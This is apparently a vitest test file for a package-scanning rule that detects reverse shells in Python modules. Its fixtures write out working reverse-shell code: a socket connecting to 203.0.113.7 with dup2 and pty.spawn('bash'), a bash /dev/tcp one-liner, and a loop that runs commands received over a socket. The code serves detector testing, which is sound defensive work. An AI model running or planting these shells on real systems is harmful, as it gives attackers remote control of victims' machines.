import { describe, expect, it } from 'vitest';
import type { RawFinding } from '../../../core/finding.js';
import { analyseModule } from './analyse-module.js';
import { PKG_RSH_001 } from './reverse-shell.js';

async function shells(source: string): Promise<readonly RawFinding[]> {
  const { findings } = await analyseModule(source, {
    path: 'pkg/__init__.py',
    role: 'import',
    enabledRules: new Set([PKG_RSH_001.id]),
    checkDeadline: () => undefined,
  });
  return findings;
}

describe('PKG-RSH-001', () => {
  it('is critical and gives the malicious verdict', () => {
    expect([PKG_RSH_001.severity, PKG_RSH_001.verdict]).toEqual(['critical', 'malicious']);
  });

  it('follows the socket through aliases, the loop over the three streams and module-level code', async () => {
    const findings = await shells(
      [
        'import socket as S, os as O, pty',
        'c = S.socket()',
        'c.connect(("203.0.113.7", 9001))',
        'for n in (0, 1, 2):',
        '    O.dup2(c.fileno(), n)',
        'pty.spawn("bash")',
      ].join('\n'),
    );
    expect(findings.map((f) => f.line)).toEqual([5, 6]);
  });

  it('does not report dup2 onto other descriptors, or of files', async () => {
    const findings = await shells(
      [
        'import os, socket, sys',
        's = socket.socket()',
        'os.dup2(s.fileno(), 7)',
        'os.dup2(open("log", "a").fileno(), sys.stderr.fileno())',
      ].join('\n'),
    );
    expect(findings).toEqual([]);
  });

  it('rates a one-liner in a docstring as medium with low confidence', async () => {
    const [finding] = await shells('"""Example payload: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"""');
    expect([finding?.severity, finding?.confidence]).toEqual(['medium', 'low']);
  });

  it('reports commands read from a socket and run', async () => {
    const findings = await shells(
      [
        'import socket, os',
        's = socket.create_connection(("203.0.113.7", 80))',
        'cmd = s.recv(4096).decode()',
        'os.popen(cmd).read()',
      ].join('\n'),
    );
    expect(findings.map((f) => f.line)).toEqual([4]);
  });
});
